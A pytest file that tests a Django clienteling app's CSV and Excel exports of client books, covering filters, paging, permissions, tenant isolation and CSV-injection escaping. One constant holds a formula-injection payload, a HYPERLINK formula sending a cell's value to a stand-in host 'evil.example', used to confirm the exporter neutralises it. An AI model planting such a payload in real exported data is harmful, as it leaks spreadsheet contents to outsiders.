"""Exports of the client book and the store's client books, as filtered (R-IO-3)."""

from __future__ import annotations

import csv
import io

import openpyxl  # type: ignore[import-untyped]
import pytest

from clienteling.clientbooks import selectors
from clienteling.clientbooks.services import customer_attributes_set
from clienteling.core.errors import Forbidden, Invalid, NotFound
from clienteling.customers.models import Customer
from clienteling.dataio import columns, exports
from clienteling.dataio.exports import Format
from clienteling.organization.access import Operation
from tests.factories import (
    ASSOCIATE_OPERATIONS,
    CustomerFactory,
    WorkerFactory,
    birthday_in,
    book_add,
)

pytestmark = pytest.mark.django_db

HEADER = [*columns.CUSTOMERS.all, "book", "owner"]
# More than two pages of 50 cards.
MANY = 120
TRICKY_NAME = '=HYPERLINK("https://evil.example/?"&B2,"click")'


def fill_books(legal_entity, store, giulia, marco) -> list[Customer]:
    """MANY customers in giulia's book (every third prefers Handbags, some have a birthday
    coming up), five in marco's; the first has a name a spreadsheet would run."""
    customers = CustomerFactory.create_batch(
        MANY,
        legal_entity=legal_entity,
        street="Via Roma 1",
        city="Milano",
        postal_code="20121",
        country="IT",
        preferred_language="it",
        consent_email=True,
    )
    first = customers[0]
    first.first_name, first.last_name = TRICKY_NAME, "@Rossi"
    first.refresh_derived()
    first.save()
    address_book = store.address_books.get()
    for customer in customers[:10]:
        customer.address_books.add(address_book)
    today = selectors.local_today(legal_entity)
    for n, customer in enumerate(customers):
        values: dict[str, object] = {}
        if n % 3 == 0:
            values["PREF_CATEGORY"] = "Handbags"
        if n % 4 == 0:
            values["BIRTHDAY"] = birthday_in(n % 20, today)
        if values:
            customer_attributes_set(actor=giulia, customer=customer, values=values)
    book_add(giulia, *customers[: MANY - 5])
    book_add(marco, *customers[MANY - 5 :])
    return customers


@pytest.fixture
def filled(legal_entity, store, giulia, marco):
    return fill_books(legal_entity, store, giulia, marco)


def page_cards(legal_entity, actor, params, *, store=None, limit=50) -> list:
    """Every card the pages show, following the cursor, as an associate sees them."""
    card_filter = selectors.card_filter_parse(legal_entity=legal_entity, params=params)
    cards: list = []
    cursor = None
    while True:
        if store is None:
            page = selectors.client_book_cards(
                actor=actor,
                legal_entity=legal_entity,
                card_filter=card_filter,
                cursor=cursor,
                limit=limit,
            )
        else:
            page = selectors.store_client_book_cards(
                actor=actor,
                legal_entity=legal_entity,
                store=store,
                card_filter=card_filter,
                cursor=cursor,
                limit=limit,
            )
        cards += page.items
        cursor = page.next_cursor
        if cursor is None:
            return cards


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_rows(data: bytes) -> list[list[str]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data), read_only=True).active
    return [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]


def download(export: exports.Export, file_format: Format) -> bytes:
    return b"".join(exports.export_file(export, file_format).chunks)


def as_cards(rows: list[list[str]]) -> list[tuple]:
    """What a card shows of each exported line: account, name, email, phone, book, owner."""
    col = {name: i for i, name in enumerate(rows[0])}
    return [
        (
            row[col["account"]],
            f"{row[col['first_name']]} {row[col['last_name']]}".strip(),
            row[col["email"]],
            row[col["phone"]],
            row[col["book"]],
            row[col["owner"]],
        )
        for row in rows[1:]
    ]


def unescaped(rows: list[list[str]]) -> list[list[str]]:
    """CSV cells without the apostrophe that keeps spreadsheets from running them."""
    return [
        [v[1:] if v.startswith("'") and v[1:2] in exports.FORMULA_START else v for v in row]
        for row in rows
    ]


def card_tuples(cards) -> list[tuple]:
    return [(c.account, c.name, c.email, c.phone, c.book.identifier, c.book.owner) for c in cards]


def book_export(legal_entity, actor, params) -> exports.Export:
    card_filter = selectors.card_filter_parse(legal_entity=legal_entity, params=params)
    return exports.client_book_export(
        actor=actor, legal_entity=legal_entity, card_filter=card_filter
    )


def store_export(legal_entity, actor, store, params) -> exports.Export:
    card_filter = selectors.card_filter_parse(legal_entity=legal_entity, params=params)
    return exports.store_client_books_export(
        actor=actor, legal_entity=legal_entity, store=store, card_filter=card_filter
    )


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"attr.PREF_CATEGORY": "Handbags"},
        {"sort": "added"},
        {"sort": "upcoming.BIRTHDAY", "upcoming.BIRTHDAY": "30"},
        {"q": "example.com"},
    ],
)
def test_book_export_is_the_filtered_page_row_for_row_over_every_page(
    legal_entity, giulia, filled, params
):
    """R-IO-3: the CSV holds exactly the cards of every page, in the page's order."""
    cards = page_cards(legal_entity, giulia, params)
    assert len(cards) > 0

    rows = unescaped(csv_rows(download(book_export(legal_entity, giulia, params), Format.CSV)))

    assert rows[0] == HEADER
    assert as_cards(rows) == card_tuples(cards)


def test_unfiltered_book_export_spans_more_than_two_pages(legal_entity, giulia, filled):
    """R-IO-3: not only the first page: every customer of the book."""
    rows = csv_rows(download(book_export(legal_entity, giulia, {}), Format.CSV))
    assert len(rows) - 1 == MANY - 5 > 2 * 50


def test_export_has_the_customers_import_columns_then_book_and_owner(
    legal_entity, store, giulia, filled
):
    """R-IO-3: language, consents as true/false, address books joined by ';', book, owner."""
    customer = filled[1]
    rows = csv_rows(download(book_export(legal_entity, giulia, {"q": customer.email}), Format.CSV))
    book = giulia.client_books.get()

    assert rows == [
        HEADER,
        [
            customer.account,
            customer.first_name,
            customer.last_name,
            customer.email,
            "'" + customer.phone,  # "+39 …": see the formula test below
            "Via Roma 1",
            "Milano",
            "20121",
            "IT",
            "it",
            "true",
            "false",
            "false",
            store.address_books.get().code,
            book.identifier,
            "giulia",
        ],
    ]


def test_xlsx_export_reads_back_as_the_filtered_page(legal_entity, giulia, filled):
    """R-IO-3: the Excel file has the same rows as the page, values as they are."""
    params = {"attr.PREF_CATEGORY": "Handbags"}
    cards = page_cards(legal_entity, giulia, params)

    data = download(book_export(legal_entity, giulia, params), Format.XLSX)
    rows = xlsx_rows(data)

    assert rows[0] == HEADER
    assert as_cards(rows) == card_tuples(cards)
    csv_export = csv_rows(download(book_export(legal_entity, giulia, params), Format.CSV))
    assert rows == unescaped(csv_export)


def test_store_export_is_the_store_view_with_each_book_and_owner(
    legal_entity, store, giulia, marco, filled
):
    """R-IO-3, R-BOOK-9: the store's client books, all pages, naming whose book each is in."""
    for params in ({}, {"owner": "marco"}, {"attr.PREF_CATEGORY": "Handbags", "sort": "added"}):
        cards = page_cards(legal_entity, giulia, params, store=store)
        export = store_export(legal_entity, giulia, store, params)
        rows = unescaped(csv_rows(download(export, Format.CSV)))
        assert as_cards(rows) == card_tuples(cards), params
    owners = {
        row[-1]
        for row in csv_rows(download(store_export(legal_entity, giulia, store, {}), Format.CSV))[1:]
    }
    assert owners == {"giulia", "marco"}


def test_cells_a_spreadsheet_would_run_are_escaped_in_csv_and_plain_text_in_xlsx(
    legal_entity, giulia, filled
):
    """R-IO-3: CSV injection. A CSV cell starting with = + - @ tab or CR gets an apostrophe;
    in the workbook it is a text cell, never a formula."""
    params = {"q": filled[0].email}
    export_csv = csv_rows(download(book_export(legal_entity, giulia, params), Format.CSV))
    first, last = export_csv[1][1], export_csv[1][2]
    assert first == "'" + TRICKY_NAME
    assert last == "'@Rossi"

    data = download(book_export(legal_entity, giulia, params), Format.XLSX)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cell = sheet.cell(row=2, column=2)
    assert cell.value == TRICKY_NAME
    assert cell.data_type == "s"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_escaped(value):
    """R-IO-3: the characters spreadsheets read as the start of a formula."""
    assert exports.csv_safe(value) == "'" + value
    assert exports.csv_safe("a" + value) == "a" + value


def test_export_needs_the_view_grant(legal_entity, store, filled):
    """R-IO-3, R-PERM-2: the same grant as the page, checked before anything is written."""
    without_book = [op for op in ASSOCIATE_OPERATIONS if op is not Operation.VIEW_OWN_BOOK]
    without_store = [op for op in ASSOCIATE_OPERATIONS if op is not Operation.VIEW_STORE_BOOKS]
    worker = WorkerFactory.create(stores=[store], operations=without_book)
    with pytest.raises(Forbidden):
        book_export(legal_entity, worker, {})
    worker = WorkerFactory.create(stores=[store], operations=without_store)
    with pytest.raises(Forbidden):
        store_export(legal_entity, worker, store, {})


def test_another_legal_entitys_store_or_book_is_not_found(
    legal_entity, other_legal_entity, other_store, giulia, rasa, filled
):
    """R-IO-3, R-ORG-1: a worker of ITJW exports nothing of LTFA."""
    with pytest.raises(NotFound):
        exports.client_book_export(
            actor=giulia, legal_entity=other_legal_entity, card_filter=selectors.CardFilter()
        )
    with pytest.raises(NotFound):
        exports.store_client_books_export(
            actor=giulia,
            legal_entity=legal_entity,
            store=other_store,
            card_filter=selectors.CardFilter(),
        )
    # And LTFA's associate, with every grant, finds an empty book of their own.
    rows = csv_rows(download(book_export(other_legal_entity, rasa, {}), Format.CSV))
    assert rows == [HEADER]


def test_an_unknown_format_is_invalid():
    """R-IO-3: csv or xlsx, named in the refusal."""
    assert exports.export_format(None) is Format.CSV
    assert exports.export_format("XLSX") is Format.XLSX
    with pytest.raises(Invalid) as refused:
        exports.export_format("pdf")
    assert refused.value.field == "format"


def test_the_file_is_named_after_the_book_or_store_and_the_day(legal_entity, store, giulia, filled):
    """R-IO-3: the download's name says what it holds."""
    today = selectors.local_today(legal_entity).strftime("%Y%m%d")
    book = giulia.client_books.get()
    file = exports.export_file(book_export(legal_entity, giulia, {}), Format.XLSX)
    assert file.filename == f"client-book-{book.identifier}-{today}.xlsx"
    assert file.size == len(b"".join(file.chunks))
    store_file = exports.export_file(store_export(legal_entity, giulia, store, {}), Format.CSV)
    assert store_file.filename == f"client-books-MI01-{today}.csv"
    assert store_file.content_type == "text/csv; charset=utf-8"


def test_rows_are_read_in_chunks_not_all_at_once(legal_entity, giulia, filled, monkeypatch):
    """R-IO-3: memory stays flat: rows come a chunk at a time, each chunk in a few queries."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    monkeypatch.setattr(exports, "CHUNK", 25)
    export = book_export(legal_entity, giulia, {})
    with CaptureQueriesContext(connection) as captured:
        chunks = list(exports.csv_chunks(export))
    # The header, then one chunk a CHUNK rows, then the rest.
    assert len(chunks) == (MANY - 5) // 25 + 1
    # One query for the rows (read by the cursor in chunks) and one a chunk for address books.
    assert len(captured) <= 1 + ((MANY - 5) // 25 + 1)
